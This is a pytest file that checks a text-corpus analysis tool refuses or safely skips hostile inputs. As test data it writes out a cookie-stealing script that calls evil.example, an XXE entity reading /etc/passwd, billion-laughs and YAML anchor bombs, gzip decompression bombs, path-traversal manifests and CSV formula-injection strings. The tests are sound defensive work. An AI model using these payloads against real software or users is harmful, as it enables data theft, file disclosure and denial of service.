"""Hostile input: files built to crash, hang or exhaust framing are refused or skipped cleanly.

Every file is made by the test itself in ``tmp_path`` (the big ones lazily: a
sparse file, or gzip members repeated, so that building them takes
milliseconds). For each case: a one-line message naming the file, the right
exit status (0 with a warning when good files remain, 1 when nothing is
readable or with ``--strict``), no traceback, and bounded time and memory
(measured in a separate process with ``resource.getrusage`` where memory is
the point). The foundation's bad-input list is in tests/test_bad_input.py;
this file adds the hostile cases of issue 8.
"""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import re
import stat
import subprocess
import sys
import time
import tracemalloc
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

import framing
from framing.cli import cli
from framing.corpus import LoadOptions
from framing.lexicon import load_pack
from framing.matcher import TermMatcher
from framing.output import CsvTable, OutputDir, spreadsheet_safe_cell
from framing.readers import ReadLimits

from .helpers import jsonl, make

GOOD = "Residents of Stepanakert spent a second night in basements as shelling continued, local officials said on Monday."
OTHER = "Peacekeepers reported several violations of the ceasefire and called for restraint."
MB = 1_000_000


# --- helpers ---------------------------------------------------------------------------


def run(*args: str) -> Result:
    """``framing ARGS`` in this process; never a traceback."""
    result = CliRunner().invoke(cli, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info
    assert "Traceback" not in result.output
    return result


def warnings_of(result: Result) -> list[str]:
    assert result.exit_code == 0, result.output
    lines = result.stderr.splitlines()
    assert lines[-1].startswith("framing: analysed "), lines
    return lines[:-1]


def error_of(result: Result) -> str:
    assert result.exit_code == 1, result.output
    [line] = result.stderr.splitlines()
    assert line.startswith("framing: error: ")
    return line


_MEASURE = """
import resource, sys, time
from framing.cli import cli
t0 = time.perf_counter()
code = 0
try:
    cli.main(sys.argv[1:], prog_name="framing")
except SystemExit as exc:
    code = exc.code
# VmHWM is this process image's own peak; ru_maxrss also counts the parent's image before exec
# (a forked copy of pytest, which is large after other tests)
try:
    status = open("/proc/self/status").read()
    peak = int(next(l.split()[1] for l in status.splitlines() if l.startswith("VmHWM:")))
except (OSError, StopIteration):
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
sys.stderr.write(f"@@measure {peak} {time.perf_counter() - t0:.2f}\\n")
sys.exit(code)
"""


def run_measured(*args: str, timeout: float = 120) -> tuple[int, list[str], float, float]:
    """``framing ARGS`` in a fresh process: exit status, stderr lines, peak RSS in MB, seconds."""
    resource = pytest.importorskip("resource")
    del resource
    proc = subprocess.run(
        [sys.executable, "-c", _MEASURE, *args], capture_output=True, text=True, timeout=timeout,
        env={**os.environ, "PYTHONHASHSEED": "0"},
    )
    lines = proc.stderr.splitlines()
    assert "Traceback" not in proc.stderr, proc.stderr
    m = re.fullmatch(r"@@measure (\d+) ([\d.]+)", lines[-1])
    assert m, proc.stderr
    peak_kib, seconds = int(m.group(1)), float(m.group(2))
    return proc.returncode, lines[:-1], peak_kib / 1024, seconds


def gzip_of_repeats(path: Path, head: bytes, chunk: bytes, count: int, tail: bytes) -> int:
    """Write ``head + chunk * count + tail`` gzip-compressed, compressing ``chunk`` only once.

    The file is a series of gzip members (valid gzip: readers join them), so a
    gigabyte of output costs one small compression and ``count`` writes.
    Returns the decompressed size.
    """
    member = gzip.compress(chunk, compresslevel=9, mtime=0)
    with open(path, "wb") as fh:
        fh.write(gzip.compress(head, mtime=0))
        for _ in range(count):
            fh.write(member)
        fh.write(gzip.compress(tail, mtime=0))
    return len(head) + len(chunk) * count + len(tail)


# --- HTML --------------------------------------------------------------------------------

HOSTILE_PAGE = f"""<!DOCTYPE html>
<html><head><title>Shelling continues</title>
<script>document.title = "SCRIPT-RAN"; fetch("https://evil.example/steal?c=" + document.cookie)</script>
<style>body {{ background: url("https://evil.example/STYLE-RULE.png") }}</style>
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
</head>
<body onload="alert('ONLOAD-RAN')">
<article>
<p>{GOOD}</p>
<script type="text/javascript">var INLINE_SCRIPT = 1; alert("INLINE-RAN");</script>
<iframe src="https://evil.example/frame" onload="alert('IFRAME-RAN')"></iframe>
<object data="https://evil.example/flash.swf"><embed src="https://evil.example/embed.swf"></object>
<img src="x" onerror="alert('ONERROR-RAN')">
<p>{OTHER} <a href="javascript:alert('LINK-RAN')">More</a></p>
<noscript><img src="https://evil.example/pixel.gif"></noscript>
</article></body></html>
"""


def test_scripts_iframes_and_handlers_are_not_article_text(tmp_path: Path, no_network: list) -> None:
    corpus = make(tmp_path / "corpus", {"page.html": HOSTILE_PAGE})
    out = tmp_path / "out"
    assert warnings_of(run("analyze", str(corpus), "-o", str(out), "--outlet", "X")) == []
    [record] = [json.loads(line) for line in (out / "documents.jsonl").read_text(encoding="utf-8").splitlines()]
    text = record["text"]
    assert GOOD in text and OTHER in text
    for trace in ("RAN", "evil.example", "INLINE_SCRIPT", "fetch(", "alert", "document.cookie", "javascript:"):
        assert trace not in text
        assert trace not in (out / "sentences.csv").read_text(encoding="utf-8")
    assert no_network == []  # nothing on the page was fetched


def test_a_10_mb_attribute_value_is_parsed_in_bounded_time_and_memory(tmp_path: Path) -> None:
    page = f'<html><body><article><p title="{"A" * (10 * MB)}">{GOOD}</p><p>{OTHER}</p></article></body></html>'
    corpus = make(tmp_path / "corpus", {"page.html": page})
    code, lines, peak_mb, seconds = run_measured(
        "analyze", str(corpus), "-o", str(tmp_path / "out"), "--outlet", "X", "--max-doc-mb", "12"
    )
    assert code == 0, lines
    assert lines[0].startswith("framing: analysed 1 document")
    text = json.loads((tmp_path / "out" / "documents.jsonl").read_text(encoding="utf-8"))["text"]
    assert GOOD in text and "AAAA" not in text
    assert seconds < 10
    assert peak_mb < 600  # the 10 MB value is held a few times over, never more


@pytest.mark.parametrize(
    "page",
    [
        "<html><body>" + "<div>" * 100_000 + f"<p>{GOOD}</p>" + "</div>" * 100_000 + "</body></html>",
        "<html><body>" + "<div><span>" * 100_000 + f"<p>{GOOD}",  # and never closed
    ],
    ids=["closed", "unclosed"],
)
def test_tags_nested_100000_deep_are_skipped_with_a_warning(page: str, tmp_path: Path) -> None:
    corpus = make(tmp_path / "corpus", {"deep.html": page, "good.txt": GOOD})
    t0 = time.perf_counter()
    result = run("analyze", str(corpus), "-o", str(tmp_path / "out"), "--outlet", "X")
    assert time.perf_counter() - t0 < 10
    assert warnings_of(result) == ["warning: deep.html: no article text found in the HTML; skipped"]
    line = error_of(run("analyze", str(corpus / "deep.html"), "-o", str(tmp_path / "alone"), "--outlet", "X"))
    assert line.endswith("deep.html: no article text found in the HTML; skipped")


LOL = "".join(
    f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
).replace("&lol0;" * 10, "lol")
BILLION_LAUGHS = (
    f'<?xml version="1.0"?><!DOCTYPE html [{LOL}]>'
    f"<html><body><article><p>{GOOD}</p><p>&lol9;</p><p>{OTHER}</p></article></body></html>"
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    f"<html><body><article><p>{GOOD}</p><p>&xxe;</p></article></body></html>"
)


@pytest.mark.parametrize(
    ("page", "entity"), [(BILLION_LAUGHS, "&lol9;"), (EXTERNAL_ENTITY, "&xxe;")], ids=["billion laughs", "external entity"]
)
def test_entity_declarations_are_never_expanded(page: str, entity: str, tmp_path: Path) -> None:
    assert "&lol8;" in LOL and LOL.count("<!ENTITY") == 9  # 10**9 "lol"s if expanded
    corpus = make(tmp_path / "corpus", {"bomb.html": page, "bomb.xml": page})
    t0 = time.perf_counter()
    result = run("analyze", str(corpus), "-o", str(tmp_path / "out"), "--outlet", "X")
    assert time.perf_counter() - t0 < 10
    assert warnings_of(result) == ["warning: bomb.xml: unsupported file type '.xml'; skipped"]  # not a corpus format
    [record] = [json.loads(x) for x in (tmp_path / "out" / "documents.jsonl").read_text(encoding="utf-8").splitlines()]
    assert GOOD in record["text"]
    assert entity in record["text"]  # the reference is kept as written, never replaced by its definition
    everything = "".join(p.read_text(encoding="utf-8") for p in (tmp_path / "out").iterdir())
    assert "lollol" not in everything and "root:" not in everything


# --- compressed and oversized data ------------------------------------------------------------


def test_decompression_bomb_and_a_1_gb_line_stay_within_time_and_memory(tmp_path: Path) -> None:
    corpus = make(tmp_path / "corpus", {"good.txt": GOOD})
    row = (json.dumps({"id": "b1", "text": OTHER}) + "\n").encode()
    # 2 GB of zero bytes in one line after a good row; the file is 2 MB.
    size = gzip_of_repeats(corpus / "bomb.jsonl.gz", row, b"\0" * (1 << 20), 2048, b"\n")
    assert size > 2 * 10**9 and (corpus / "bomb.jsonl.gz").stat().st_size < 3 * MB
    # A CSV whose third line is a field of 1 GB.
    gzip_of_repeats(corpus / "line.csv.gz", f'text\n"{OTHER}"\n"'.encode(), b"x" * (1 << 20), 1024, b'"\n')
    # A sparse file: a good row, a line of 1 GB of zero bytes, a good row. It takes no disk space.
    sparse = corpus / "line.jsonl"
    with open(sparse, "wb") as fh:
        fh.write(jsonl({"id": "s1", "text": GOOD}).encode())
        fh.truncate(1 << 30)
        fh.seek(0, os.SEEK_END)
        fh.write(b"\n" + jsonl({"id": "s3", "text": OTHER}).encode())
    assert sparse.stat().st_size > 1 << 30

    code, lines, peak_mb, seconds = run_measured("analyze", str(corpus), "-o", str(tmp_path / "out"), "--outlet", "X")
    assert code == 0, lines
    assert [re.sub(r"expands \d+-fold", "expands N-fold", w) for w in lines[:-1]] == [
        "warning: bomb.jsonl.gz: compressed data expands N-fold (limit 500), a decompression bomb; "
        "stopped reading at line 2",
        "warning: line.csv.gz: compressed data expands N-fold (limit 500), a decompression bomb; "
        "stopped reading at line 3",
        "warning: line.jsonl:2: line is over the per-article size limit; skipped",
    ]
    # good.txt, bomb.jsonl.gz:1, line.csv.gz:2, line.jsonl:1 and :3
    assert lines[-1].startswith("framing: analysed 5 documents")
    assert peak_mb < 400, f"peak RSS {peak_mb:.0f} MB"
    assert seconds < 20, f"{seconds:.1f} s"  # about 4 s on a quiet machine, most of it hashing the 1 GB file

    line = error_of(run("analyze", str(corpus), "-o", str(tmp_path / "strict"), "--outlet", "X", "--strict"))
    assert re.fullmatch(r"framing: error: bomb\.jsonl\.gz: compressed data expands \d+-fold .* \(--strict\)", line)


def test_the_decompressed_size_limit_stops_a_file_whatever_its_ratio(tmp_path: Path) -> None:
    path = tmp_path / "many.jsonl.gz"
    gzip_of_repeats(path, jsonl({"id": "a", "text": GOOD}).encode(), b"\0" * (1 << 20), 60, b"\n")
    limits = ReadLimits(max_decompressed_bytes=50 * MB, max_gzip_ratio=0)  # ratio check off: only the size stops it
    corpus = framing.load_corpus(path, options=LoadOptions(limits=limits, defaults={"outlet": "X"}))
    assert [d.id for d in corpus] == ["a"]
    assert [str(d) for d in corpus.diagnostics] == [
        "many.jsonl.gz: more than 50 MB of data; stopped reading at line 2"
    ]


def test_a_long_csv_record_is_never_held_in_memory_whole(tmp_path: Path) -> None:
    path = tmp_path / "wide.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        fh.write(f'text,outlet\n"{GOOD}",X\n"')
        for _ in range(60):
            fh.write("y" * MB)  # a 60 MB field, against a 1 MB limit
        fh.write(f'",X\n"{OTHER}",X\n')
    limits = ReadLimits(max_document_bytes=MB)
    tracemalloc.start()
    try:
        corpus = framing.load_corpus(path, options=LoadOptions(limits=limits))
        texts = [d.text for d in corpus.sources()]
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert texts == [GOOD, OTHER]
    assert [str(d) for d in corpus.diagnostics] == ["wide.csv:3: record is over the per-article size limit; skipped"]
    assert peak < 12 * MB, f"{peak / MB:.0f} MB traced"  # one capped line (a few MB), not 60 MB


# --- NUL bytes and deep nesting in data files ------------------------------------------------


NUL_CASES = [
    ("nul.txt", b"Residents\x00 fled the town.\n", "warning: nul.txt: not a text file (binary data (NUL bytes)); skipped"),
    ("nul.csv", b'text\n"Residents\x00 fled."\n', "warning: nul.csv: not a text file (binary data (NUL bytes)); skipped"),
    ("nul.html", f"<html><body><p>{GOOD}\x00</p></body></html>".encode(),
     "warning: nul.html: not a text file (binary data (NUL bytes)); skipped"),
    ("raw.jsonl", b'{"text": "Residents\x00 fled."}\n', None),  # a raw NUL inside a JSON string is invalid JSON
    ("deep.jsonl", b'{"text": "x", "n": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n",
     "warning: deep.jsonl:1: malformed JSON (nested too deeply); line skipped"),
    ("deep.json", b"[" * 100_000 + b"]" * 100_000, "warning: deep.json: malformed JSON (nested too deeply); skipped"),
]


@pytest.mark.parametrize(("name", "content", "warning"), NUL_CASES, ids=[c[0] for c in NUL_CASES])
def test_nul_bytes_and_deep_nesting_in_data_files(name: str, content: bytes, warning: str | None, tmp_path: Path) -> None:
    corpus = make(tmp_path / "corpus", {name: content, "good.txt": GOOD})
    warnings = warnings_of(run("analyze", str(corpus), "-o", str(tmp_path / "out"), "--outlet", "X"))
    if warning is None:
        assert len(warnings) == 1 and re.fullmatch(r"warning: raw\.jsonl:1: malformed JSON \(.+\); line skipped", warnings[0])
    else:
        assert warnings == [warning]


def test_an_escaped_nul_in_a_jsonl_text_is_dropped(tmp_path: Path) -> None:
    corpus = make(tmp_path / "corpus", {"feed.jsonl": '{"id": "n", "text": "Residents\\u0000 fled."}\n'})
    [doc] = list(framing.load_corpus(corpus, defaults={"outlet": "X"}))
    assert doc.text == "Residents fled."


# --- manifests and YAML ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("manifest", "message"),
    [
        ("file,outlet\ngood.txt,X\n../x.txt,Y\n", "manifest.csv:3: path '../x.txt' leads outside the corpus folder; refused"),
        ("file,outlet\ngood.txt,X\n/etc/hosts,Y\n",
         "manifest.csv:3: absolute path '/etc/hosts' refused; give paths relative to the corpus folder"),
    ],
    ids=["dot-dot", "absolute"],
)
def test_manifest_csv_paths_outside_the_corpus_are_refused(manifest: str, message: str, tmp_path: Path) -> None:
    (tmp_path / "x.txt").write_text(OTHER, encoding="utf-8")
    corpus = make(tmp_path / "corpus", {"good.txt": GOOD, "manifest.csv": manifest})
    assert error_of(run("analyze", str(corpus), "-o", str(tmp_path / "out"))) == f"framing: error: {message}"
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def test_a_manifest_entry_that_is_a_symlink_out_of_the_corpus_is_refused(tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text(OTHER, encoding="utf-8")
    corpus = make(tmp_path / "corpus", {"good.txt": GOOD, "corpus.yaml": "documents:\n  - file: good.txt\n  - file: link.txt\n"})
    try:
        os.symlink("../secret.txt", corpus / "link.txt")
    except (OSError, NotImplementedError) as exc:
        pytest.skip(f"cannot create symbolic links here: {exc}")
    line = error_of(run("analyze", str(corpus), "-o", str(tmp_path / "out")))
    assert line == "framing: error: corpus.yaml:3: path 'link.txt' resolves outside the corpus folder; refused"


ANCHOR_BOMB = (
    'a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n'
    "b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
    "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
    "d: [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("format: 1\npack: bomb\n" + ANCHOR_BOMB, "3: YAML anchors and aliases (&, *) are not allowed"),
        ("format: 1\npack: deep\nsides: {a: {}}\nconcepts: " + "[" * 100_000 + "]" * 100_000 + "\n",
         "4: lists or mappings nested more than 100 deep"),
    ],
    ids=["anchor bomb", "nested 100000 deep"],
)
def test_hostile_lexicon_yaml_is_refused(text: str, message: str, tmp_path: Path) -> None:
    pack = tmp_path / "pack.yaml"
    pack.write_text(text, encoding="utf-8")
    t0 = time.perf_counter()
    check = run("lexicon", "check", str(pack))
    assert check.exit_code == 1
    assert check.output.splitlines()[0] == f"{pack}:{message}"
    corpus = make(tmp_path / "corpus", {"good.txt": GOOD})
    line = error_of(run("analyze", str(corpus), "-o", str(tmp_path / "out"), "--outlet", "X", "--lexicon", str(pack)))
    assert f"{pack}:{message}" in line
    assert time.perf_counter() - t0 < 10


def test_hostile_front_matter_is_dropped_with_a_warning(tmp_path: Path) -> None:
    corpus = make(
        tmp_path / "corpus",
        {"bomb.md": "---\n" + ANCHOR_BOMB + "---\n" + GOOD + "\n", "deep.md": "---\nx: " + "[" * 1000 + "]" * 1000 + "\n---\n" + OTHER + "\n"},
    )
    warnings = warnings_of(run("analyze", str(corpus), "-o", str(tmp_path / "out"), "--outlet", "X"))
    # The front matter starts on line 2 of the file, after the opening "---"; both problems are on its first line.
    assert warnings == [
        "warning: bomb.md:2: front matter ignored: YAML anchors and aliases (&, *) are not allowed",
        "warning: deep.md:2: front matter ignored: lists or mappings nested more than 100 deep",
    ]
    texts = [json.loads(x)["text"] for x in (tmp_path / "out" / "documents.jsonl").read_text(encoding="utf-8").splitlines()]
    assert texts == [GOOD, OTHER]


@pytest.mark.parametrize(
    "text",
    [
        "# a" + " " * 20_000 + "b\n",  # took 37 s for 2,000 spaces with the earlier heading pattern
        "[" * 100_000 + "]" * 100_000,
        "![a](" * 20_000,
        "*a " * 50_000,
        "_a " * 50_000,
    ],
    ids=["heading with spaces", "brackets", "image openers", "stars", "underscores"],
)
def test_markdown_that_made_patterns_backtrack_is_read_quickly(text: str, tmp_path: Path) -> None:
    corpus = make(tmp_path / "corpus", {"page.md": text + "\n\n" + GOOD + "\n"})
    t0 = time.perf_counter()
    [doc] = list(framing.load_corpus(corpus, defaults={"outlet": "X"}))
    assert time.perf_counter() - t0 < 5
    assert doc.text.endswith(GOOD)


# --- lexicons that could make matching slow -------------------------------------------------


def _pack_file(path: Path, terms: list[str], *, exclude: str = "") -> Path:
    lines = ["format: 1", "pack: big", "sides: {a: {}}", "concepts:"]
    for i in range(0, len(terms), 50):
        quoted = ", ".join(json.dumps(t) for t in terms[i : i + 50])
        lines += [f"  - id: c{i}", "    variants:", "      - side: a", f"        terms: [{quoted}]"]
        if exclude:
            lines.append(f"        exclude: [{exclude}]")
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _seconds(matcher: TermMatcher, text: str) -> float:
    best = float("inf")
    for _ in range(2):
        t0 = time.perf_counter()
        matcher.find(text)
        best = min(best, time.perf_counter() - t0)
    return best


# 100,000 spellings of one two-word name that differ only in the punctuation between
# the words ("alpha!beta", "alpha#beta", ...): they share one node of the matcher's trie.
PUNCT = "!#$%&*+,./:;<=>?@^|~"
NEAR_DUPLICATES = [f"alpha{a}{b}{c}{d}beta" for a in PUNCT for b in PUNCT for c in PUNCT for d in PUNCT][:100_000]


def test_a_pack_of_100000_near_duplicate_spellings_is_matched_in_linear_time(tmp_path: Path) -> None:
    assert len(set(NEAR_DUPLICATES)) == 100_000
    pack = load_pack(_pack_file(tmp_path / "near.yaml", NEAR_DUPLICATES, exclude='"alpha beta"'))
    matcher = TermMatcher([pack])
    unit = "alpha!!!!beta and alpha beta, alpha!~~~beta. " * 200  # 2 hits per sentence (not "alpha beta")
    assert len(matcher.find(unit)) == 400
    small, large = _seconds(matcher, unit), _seconds(matcher, unit * 10)
    assert large < 2.0, f"{large:.2f} s for {len(unit) * 10} characters"  # was 80 ms per word pair: 13 min
    assert large / small < 25, f"10x text took {large / small:.1f}x the time"


def test_a_pack_of_100000_terms_is_matched_in_linear_time(tmp_path: Path) -> None:
    terms = [f"word{i}x{j} term{j}" for i in range(2000) for j in range(50)]
    pack = load_pack(_pack_file(tmp_path / "big.yaml", terms))
    assert pack.n_terms == 100_000
    matcher = TermMatcher([pack])
    unit = "Plain words about word7x3 term3 and word1999x49 term49 here, term3 alone. " * 200
    assert len(matcher.find(unit)) == 400
    small, large = _seconds(matcher, unit), _seconds(matcher, unit * 10)
    assert large / small < 25, f"10x text took {large / small:.1f}x the time"


def test_a_near_duplicate_pack_through_the_command_line(tmp_path: Path) -> None:
    pack = _pack_file(tmp_path / "near.yaml", NEAR_DUPLICATES[:20_000])
    corpus = make(tmp_path / "corpus", {"a.txt": ("They spoke of alpha!!!/beta and alpha!!!:beta. " * 2000)})
    out = tmp_path / "out"
    t0 = time.perf_counter()
    assert warnings_of(run("analyze", str(corpus), "-o", str(out), "--outlet", "X", "--lexicon", str(pack))) == []
    assert time.perf_counter() - t0 < 30
    rows = (out / "terms.csv").read_text(encoding="utf-8").splitlines()
    assert len(rows) == 1 + 4000  # a header and two hits per sentence


# --- CSV formula injection ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.2", "-3.2"),  # a number written as text is still just that number
        ("+1e5", "+1e5"),
        ("-", "'-"),
        ("Stepanakert", "Stepanakert"),
        (" =1", " =1"),  # a leading space makes it text already
        ("", ""),
    ],
)
def test_spreadsheet_safe_cell(cell: str, safe: str) -> None:
    assert spreadsheet_safe_cell(cell) == safe


@pytest.mark.parametrize("safe", [False, True])
def test_csv_table_neutralises_formulas_only_when_asked(safe: bool, tmp_path: Path) -> None:
    import numpy as np

    with OutputDir(tmp_path) as out:
        table = CsvTable(out, "t.csv", ["text", "score", "n", "list", "np"], spreadsheet_safe=safe)
        table.write({"text": "=1+1", "score": -3.2, "n": -4, "list": ["@a", "b"], "np": np.int64(-7)})
        table.write({"text": "-3.2", "score": float("nan"), "n": None, "list": [], "np": np.float64(-0.5)})
        out.commit({"generator": "framing"})
    lines = (tmp_path / "t.csv").read_text(encoding="utf-8").splitlines()
    assert lines[0] == "text,score,n,list,np"
    if safe:
        # Text cells that start with = or @ are prefixed; numbers (Python or NumPy) and "-3.2" are not.
        assert lines[1:] == ["'=1+1,-3.2,-4,'@a; b,-7", "-3.2,,,,-0.5"]
    else:
        assert lines[1:] == ["=1+1,-3.2,-4,@a; b,-7", "-3.2,,,,-0.5"]


# --- inputs are opened read-only -----------------------------------------------------------------


_AUDIT: list[tuple[str, tuple]] = []
_AUDITING = [False]


def _audit(event: str, args: tuple) -> None:
    if _AUDITING[0] and event in ("open", "os.remove", "os.rename", "os.chmod", "os.utime", "os.truncate", "shutil.rmtree"):
        _AUDIT.append((event, args))


def _snapshot(folder: Path) -> dict[str, tuple[str, int, int, int]]:
    out = {}
    for p in sorted(folder.rglob("*")):
        st = p.stat()
        digest = hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "folder"
        out[p.relative_to(folder).as_posix()] = (digest, st.st_size, st.st_mtime_ns, stat.S_IMODE(st.st_mode))
    return out


def test_inputs_are_opened_read_only_and_left_unchanged(tmp_path: Path) -> None:
    corpus = make(
        tmp_path / "corpus",
        {
            "a.txt": GOOD,
            "b.md": f"---\noutlet: Markdown Weekly\n---\n{OTHER}\n",
            "c.html": f"<html><body><article><p>{GOOD}</p><p>{OTHER}</p></article></body></html>",
            "d.jsonl": jsonl({"id": "d1", "text": OTHER}),
            "e.csv": f'text\n"{GOOD}"\n',
            "f.jsonl.gz": gzip.compress(jsonl({"id": "f1", "text": GOOD}).encode(), mtime=0),
            "sub/g.txt": OTHER,
            "corpus.yaml": "defaults:\n  outlet: Manifest Post\ndocuments:\n  - file: a.txt\n",
        },
    )
    old = time.time() - 86400 * 3650
    for p in corpus.rglob("*"):
        os.utime(p, (old, old))
        p.chmod(0o444 if p.is_file() else 0o555)
    corpus.chmod(0o555)
    before = _snapshot(corpus)
    sys.addaudithook(_audit) if not getattr(sys, "_framing_audit", False) else None
    sys._framing_audit = True  # type: ignore[attr-defined]  # hooks cannot be removed: add it once
    _AUDIT.clear()
    _AUDITING[0] = True
    try:
        result = run("analyze", str(corpus), "-o", str(tmp_path / "out"))
    finally:
        _AUDITING[0] = False
        for p in [corpus, *corpus.rglob("*")]:
            p.chmod(0o755 if p.is_dir() else 0o644)  # so that tmp_path can be removed
    assert warnings_of(result) == []
    assert result.stderr.splitlines()[-1].startswith("framing: analysed 7 documents")
    root = str(corpus.resolve())
    touched = [(e, a) for e, a in _AUDIT if str(os.path.realpath(str(a[0]))).startswith(root)] if _AUDIT else []
    assert touched, "the audit hook saw no input file being opened"
    for event, args in touched:
        assert event == "open", (event, args)
        path, mode, flags = args
        if mode is not None:
            assert set(mode) <= {"r", "b", "t"}, (path, mode)
        if isinstance(flags, int):
            assert flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND) == 0, (path, flags)
    after = _snapshot(corpus)
    assert {k: v[:3] for k, v in after.items()} == {k: v[:3] for k, v in before.items()}  # bytes, sizes, mtimes
